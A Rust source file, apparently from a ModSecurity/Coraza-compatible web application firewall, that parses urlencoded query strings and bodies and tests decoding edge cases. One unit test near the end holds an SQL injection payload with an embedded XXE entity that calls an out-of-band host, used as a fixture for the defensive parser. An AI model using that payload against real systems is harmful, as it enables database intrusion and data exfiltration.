//! `application/x-www-form-urlencoded` parsing, for the query string (ARGS_GET) and for
//! urlencoded bodies (ARGS_POST).
//!
//! Owns splitting `a=1&b=2` into decoded pairs. Must not: know which collection the pairs go
//! to (the caller's sink does), or allocate per pair (decoding goes to the caller's scratch;
//! pairs without `%` or `+` are passed borrowed).
//!
//! Semantics (ModSecurity `parse_arguments` / Coraza `url.ParseQuery`, which agree except
//! where noted):
//! - pairs are split on `&`; an empty pair (`a&&b`, a trailing `&`) is skipped as Coraza
//!   does (ModSecurity v2 adds an argument with an empty name there);
//! - the first `=` splits name and value; a pair without `=` is a name with an empty value;
//! - in both name and value `+` becomes a space and `%XX` (two hex digits, any case) the byte
//!   it encodes; a `%` not followed by two hex digits is kept literally and the pair counts as
//!   an invalid encoding (ModSecurity/libmodsecurity `URLENCODED_ERROR`);
//! - no other decoding (`%uXXXX` is left for the `urlDecodeUni` transformation).

use super::{BodyError, BodyLimits, BodySink, Processor};

/// What a successful parse observed besides the arguments.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct UrlencodedStatus {
    /// A `%` not followed by two hex digits was seen (`URLENCODED_ERROR`).
    pub invalid_encoding: bool,
    /// Pairs handed to the sink.
    pub args: usize,
}

/// Parses `input` and hands every pair to `sink.arg`. Fails only when more than
/// `limits.max_args` pairs are present; the pairs before the limit have been handed over.
pub fn parse<S: BodySink + ?Sized>(
    input: &[u8],
    limits: BodyLimits,
    scratch: &mut Vec<u8>,
    sink: &mut S,
) -> Result<UrlencodedStatus, BodyError> {
    let mut status = UrlencodedStatus::default();
    let mut start = 0usize;
    while start <= input.len() {
        let rest = input.get(start..).unwrap_or_default();
        let pair_len = memchr::memchr(b'&', rest).unwrap_or(rest.len());
        let pair = rest.get(..pair_len).unwrap_or_default();
        let pair_start = start;
        start = start.saturating_add(pair_len).saturating_add(1);
        if pair.is_empty() {
            continue;
        }
        if status.args >= limits.max_args {
            return Err(BodyError::too_many_args(
                Processor::Urlencoded,
                limits.max_args,
                pair_start,
            ));
        }
        let (name, value) = match memchr::memchr(b'=', pair) {
            Some(eq) => (
                pair.get(..eq).unwrap_or_default(),
                pair.get(eq + 1..).unwrap_or_default(),
            ),
            None => (pair, &[][..]),
        };
        emit_decoded(name, value, scratch, sink, &mut status.invalid_encoding);
        status.args += 1;
    }
    Ok(status)
}

/// Decodes one pair (borrowing it when nothing needs decoding) and hands it to the sink.
fn emit_decoded<S: BodySink + ?Sized>(
    name: &[u8],
    value: &[u8],
    scratch: &mut Vec<u8>,
    sink: &mut S,
    invalid: &mut bool,
) {
    let name_plain = memchr::memchr2(b'%', b'+', name).is_none();
    let value_plain = memchr::memchr2(b'%', b'+', value).is_none();
    if name_plain && value_plain {
        sink.arg(name, value);
        return;
    }
    scratch.clear();
    decode_into(name, scratch, invalid);
    let name_len = scratch.len();
    decode_into(value, scratch, invalid);
    let (decoded_name, decoded_value) = scratch.split_at(name_len);
    sink.arg(decoded_name, decoded_value);
}

/// Appends the non-strict URL decoding of `input` to `out` (`+` → space, `%XX` → byte, bad
/// `%` kept); sets `invalid` when a bad `%` was seen.
pub fn decode_into(input: &[u8], out: &mut Vec<u8>, invalid: &mut bool) {
    let mut i = 0usize;
    while let Some(&b) = input.get(i) {
        match b {
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b'%' => match (
                input.get(i + 1).copied().and_then(hex_value),
                input.get(i + 2).copied().and_then(hex_value),
            ) {
                (Some(hi), Some(lo)) => {
                    out.push(hi << 4 | lo);
                    i += 3;
                }
                _ => {
                    *invalid = true;
                    out.push(b'%');
                    i += 1;
                }
            },
            _ => {
                // Copy the run up to the next byte that needs decoding in one go.
                let run = input.get(i..).unwrap_or_default();
                let n = memchr::memchr2(b'%', b'+', run).unwrap_or(run.len());
                out.extend_from_slice(run.get(..n).unwrap_or_default());
                i += n;
            }
        }
    }
}

fn hex_value(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
#[allow(clippy::type_complexity)] // table-driven cases
mod tests {
    use super::*;
    use crate::engine::body::testing::{pairs, Recorder};
    use crate::engine::body::BodyErrorKind;

    fn run(input: &[u8]) -> (Vec<(Vec<u8>, Vec<u8>)>, bool) {
        let mut sink = Recorder::default();
        let mut scratch = Vec::new();
        let status = parse(input, BodyLimits::UNBOUNDED, &mut scratch, &mut sink).unwrap();
        assert_eq!(status.args, sink.args.len());
        (sink.args, status.invalid_encoding)
    }

    /// Expected values follow ModSecurity's `urldecode_nonstrict_inplace` and Coraza's
    /// `queryUnescape` test table (`s% ample`, `%7B%%7d`, ...), and Coraza's pair splitting.
    #[test]
    fn table() {
        let cases: &[(&str, &[u8], &[(&str, &str)], bool)] = &[
            ("simple", b"a=1&b=2", &[("a", "1"), ("b", "2")], false),
            ("empty input", b"", &[], false),
            ("no equals", b"a&b=", &[("a", ""), ("b", "")], false),
            ("first equals splits", b"a=b=c", &[("a", "b=c")], false),
            ("empty name", b"=x", &[("", "x")], false),
            ("lone equals", b"=", &[("", "")], false),
            (
                "empty pairs skipped",
                b"&&a=1&&&b=2&",
                &[("a", "1"), ("b", "2")],
                false,
            ),
            (
                "plus is space",
                b"s+ample=a+b",
                &[("s ample", "a b")],
                false,
            ),
            (
                "percent decode",
                b"s%20ample=s%2fample",
                &[("s ample", "s/ample")],
                false,
            ),
            ("upper and lower hex", b"x=%7B%7d", &[("x", "{}")], false),
            ("nul byte", b"x=s%00ample", &[("x", "s\0ample")], false),
            (
                "bad percent kept",
                b"x=s% ample",
                &[("x", "s% ample")],
                true,
            ),
            ("bad hex kept", b"x=s%ssample", &[("x", "s%ssample")], true),
            ("percent in middle", b"x=%7B%%7d", &[("x", "{%}")], true),
            (
                "plus around percent",
                b"x=%7B+%+%7d",
                &[("x", "{ % }")],
                true,
            ),
            ("truncated escape at end", b"x=%4", &[("x", "%4")], true),
            ("lone percent at end", b"x=%", &[("x", "%")], true),
            ("escape in name", b"a%5B0%5D=1", &[("a[0]", "1")], false),
            (
                "encoded separators stay",
                b"a=%26b%3Dc",
                &[("a", "&b=c")],
                false,
            ),
            ("u escape untouched", b"a=%u0041", &[("a", "%u0041")], true),
            ("semicolon is data", b"a=1;b=2", &[("a", "1;b=2")], false),
            (
                "duplicates kept",
                b"a=1&a=2",
                &[("a", "1"), ("a", "2")],
                false,
            ),
        ];
        for (name, input, want, invalid) in cases {
            let (got, got_invalid) = run(input);
            assert_eq!(got, pairs(want), "case {name}");
            assert_eq!(got_invalid, *invalid, "case {name}: invalid flag");
        }
    }

    #[test]
    fn non_utf8_bytes_pass_through() {
        let (got, invalid) = run(b"n\xff=%ff\xfe");
        assert_eq!(got, vec![(b"n\xff".to_vec(), b"\xff\xfe".to_vec())]);
        assert!(!invalid);
    }

    #[test]
    fn the_crs_942100_style_payload_is_one_argument() {
        // From REQUEST-942 tests: quotes, parentheses and a DOCTYPE inside one value.
        let body = b"var=EmptyValue'||(select extractvalue(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % awpsd SYSTEM \"http://0cddnr5evws01h2bfzn5zd0cm3sxvrjv7oufi4.example'||'foo.bar/\">%awpsd;";
        let (got, invalid) = run(body);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].0, b"var");
        assert!(got[0].1.ends_with(b"%awpsd;"));
        assert!(invalid, "'% a' is an invalid escape");
    }

    #[test]
    fn argument_limit_is_an_error_after_the_allowed_pairs() {
        let mut sink = Recorder::default();
        let mut scratch = Vec::new();
        let limits = BodyLimits {
            max_args: 2,
            ..BodyLimits::UNBOUNDED
        };
        let err = parse(b"a=1&&b=2&c=3&d=4", limits, &mut scratch, &mut sink).unwrap_err();
        assert_eq!(err.kind(), BodyErrorKind::Limit);
        assert_eq!(
            err.to_string(),
            "URLENCODED parsing error: argument limit 2 exceeded at byte 9"
        );
        assert_eq!(sink.args, pairs(&[("a", "1"), ("b", "2")]));
        // Exactly at the limit is fine.
        let mut sink = Recorder::default();
        assert!(parse(b"a=1&b=2&", limits, &mut scratch, &mut sink).is_ok());
    }

    #[test]
    fn decode_into_appends() {
        let mut out = b"x".to_vec();
        let mut invalid = false;
        decode_into(b"a%41+", &mut out, &mut invalid);
        assert_eq!(out, b"xaA ");
        assert!(!invalid);
    }
}
